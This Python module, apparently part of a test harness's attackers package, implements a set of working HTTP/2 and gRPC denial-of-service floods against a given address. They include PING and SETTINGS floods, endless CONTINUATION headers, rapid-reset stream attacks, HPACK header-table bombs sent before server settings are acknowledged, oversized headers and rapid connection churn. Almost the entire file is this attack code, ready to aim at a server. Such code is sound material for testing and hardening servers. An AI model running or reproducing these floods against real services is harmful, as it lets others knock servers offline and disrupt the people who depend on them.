"""Frames that cost their sender nothing, as many as the socket takes."""

import socket
import time
from collections.abc import Callable
from itertools import count

from attackers.payloads import SMALL, STATIC, STREAM, encode_call, encode_headers
from http2 import END_HEADERS, PREFACE, Connection, Kind, frame, grpc_message

_MANY = 200
_MAX_STREAM = 2**31 - 1
_FRAME_BYTES = 16384
_KEPT_4000 = b"\x7f\xa1\x1e" + b"y" * 4000
_PING = frame(Kind.PING, 0, 0, b"x" * 8)
_SETTINGS = frame(Kind.SETTINGS, 0, 0, b"\x00\x04\x00\x00\xff\xff")
_CONTINUATION = frame(Kind.CONTINUATION, 0, 1)
_OPEN_HEADERS = frame(Kind.HEADERS, 0, 1, encode_call(STATIC))


def flood(address: str, frames: bytes, *, first: bytes = b"", reads: bool = True) -> None:
    """Sends the same frames for ever."""
    with Connection(address, reads=reads) as connection:
        connection.send(first)
        while not connection.closed:
            connection.send(frames)


def pings(address: str) -> None:
    """PING, whose answers are read."""
    flood(address, _PING * _MANY)


def unread_settings(address: str) -> None:
    """SETTINGS that change nothing, whose answers are not read."""
    flood(address, _SETTINGS * _MANY, reads=False)


def empty_continuations(address: str) -> None:
    """Headers that never end."""
    flood(address, _CONTINUATION * _MANY, first=_OPEN_HEADERS)


def empty_data(address: str) -> None:
    """DATA without a byte, for a stream that is open."""
    flood(address, frame(Kind.DATA, 0, 1) * _MANY, first=frame(Kind.HEADERS, END_HEADERS, 1, encode_call(STREAM)))


def priorities(address: str) -> None:
    """PRIORITY for streams that there are not."""
    flood(address, b"".join(frame(Kind.PRIORITY, 0, stream, bytes(5)) for stream in range(1, _MANY, 2)))


def window_updates(address: str) -> None:
    """WINDOW_UPDATE by one byte, for the connection and for a stream."""
    updates = frame(Kind.WINDOW_UPDATE, 0, 0, b"\0\0\0\1") + frame(Kind.WINDOW_UPDATE, 0, 1, b"\0\0\0\1")
    flood(address, updates * _MANY, first=frame(Kind.HEADERS, END_HEADERS, 1, encode_call(STREAM)))


def unknown_frames(address: str) -> None:
    """Frames of a type that nobody has defined."""
    flood(address, frame(0xFA, 0xFF, 0, b"x" * 64) * _MANY)


def rapid_resets(address: str) -> None:
    """Calls that are reset as soon as they are begun."""
    _reset(address, lambda stream: frame(Kind.RST_STREAM, 0, stream, b"\0\0\0\x08"))


def forced_resets(address: str) -> None:
    """Calls followed by a window update of nothing, for which the server itself must reset them."""
    _reset(address, lambda stream: frame(Kind.WINDOW_UPDATE, 0, stream, bytes(4)))


def answered_resets(address: str) -> None:
    """Whole calls that are reset before their answer can come."""
    message = grpc_message(SMALL)
    _reset(
        address,
        lambda stream: frame(Kind.DATA, 1, stream, message) + frame(Kind.RST_STREAM, 0, stream, b"\0\0\0\x08"),
    )


def _reset(address: str, follow: Callable[[int], bytes]) -> None:
    block = encode_call(STATIC)
    with Connection(address) as connection:
        for first in range(1, _MAX_STREAM, 2 * _MANY):
            if connection.closed:
                return
            streams = range(first, first + 2 * _MANY, 2)
            connection.send(b"".join(frame(Kind.HEADERS, 4, stream, block) + follow(stream) for stream in streams))


def control_frames(address: str) -> None:
    """PING on one connection and SETTINGS on another that does not read, by turns."""
    with Connection(address) as reader, Connection(address, reads=False) as deaf:
        for connection in (reader, deaf):
            connection.socket.settimeout(0.3)
        while not reader.closed:
            reader.send(_PING * _MANY)
            deaf.send(_SETTINGS * _MANY)


def many_headers(address: str) -> None:
    """Calls with a thousand headers each."""
    _send_headers(address, encode_headers(*((f"x-{number}", "y") for number in range(1000))))


def huge_headers(address: str) -> None:
    """Calls with a header of a quarter of a MiB."""
    _send_headers(address, encode_headers(("x-huge", "y" * (1 << 18))))


def header_bombs(address: str) -> None:
    """One header of 4000 bytes kept in the table of HPACK, and named 16000 times by each call, which is reset."""
    _send_bombs(address, _KEPT_4000, 16000)


def early_header_bombs(address: str) -> None:
    """The same of 2000 times, without a word that the server's settings have come: its limits do not hold before."""
    _send_bombs(address, _KEPT_4000, 2000, acknowledges=False)


def early_small_bombs(address: str) -> None:
    """Likewise, one header without a value, named 400000 times by each call."""
    _send_bombs(address, b"\0", 400_000, acknowledges=False)


def early_garbled_bombs(address: str) -> None:
    """Likewise, with a value that is no text: to find that out takes ten times as long."""
    _send_bombs(address, b"\x01\xff", 400_000, acknowledges=False)


def _send_bombs(address: str, value: bytes, times: int, *, acknowledges: bool = True) -> None:
    """Has a header kept, whose value is as HPACK has it, and named by all calls that follow."""
    with Connection(address, acknowledges=acknowledges) as connection:
        connection.send(frame(Kind.HEADERS, END_HEADERS, 1, encode_call(STATIC) + b"\x40\x01x" + value))
        _send_calls(connection, encode_call(STATIC) + b"\xbe" * times, range(3, _MAX_STREAM, 2))


def _send_headers(address: str, more: bytes) -> None:
    with Connection(address) as connection:
        _send_calls(connection, encode_call(STATIC) + more, range(1, _MAX_STREAM, 2))


def _send_calls(connection: Connection, block: bytes, streams: range) -> None:
    """Begins calls by a block of headers, and resets each."""
    pieces = [block[begin : begin + _FRAME_BYTES] for begin in range(0, len(block), _FRAME_BYTES)]
    for stream in streams:
        if connection.closed:
            return
        for number, piece in enumerate(pieces):
            kind = Kind.CONTINUATION if number else Kind.HEADERS
            connection.send(frame(kind, END_HEADERS if number == len(pieces) - 1 else 0, stream, piece))
        connection.send(frame(Kind.RST_STREAM, 0, stream, bytes(4)))


def small_calls(address: str) -> None:
    """Legal calls, 120 at once, as many as are answered."""
    message, block = grpc_message(SMALL), encode_call(STATIC)
    with Connection(address) as connection:
        for first in range(1, _MAX_STREAM, 240):
            streams = range(first, first + 240, 2)
            connection.send(
                b"".join(frame(Kind.HEADERS, 4, each, block) + frame(Kind.DATA, 1, each, message) for each in streams)
            )
            if connection.await_end(streams[-1]).status == "CLOSED":
                return


def short_connections(address: str) -> None:
    """Connections that are closed as soon as they have greeted."""
    host, _, port = address.rpartition(":")
    for number in count():
        with socket.create_connection((host, int(port)), 5) as connection:
            connection.sendall(PREFACE + frame(Kind.SETTINGS, 0, 0))
        if number % 100 == 0:
            time.sleep(0.01)
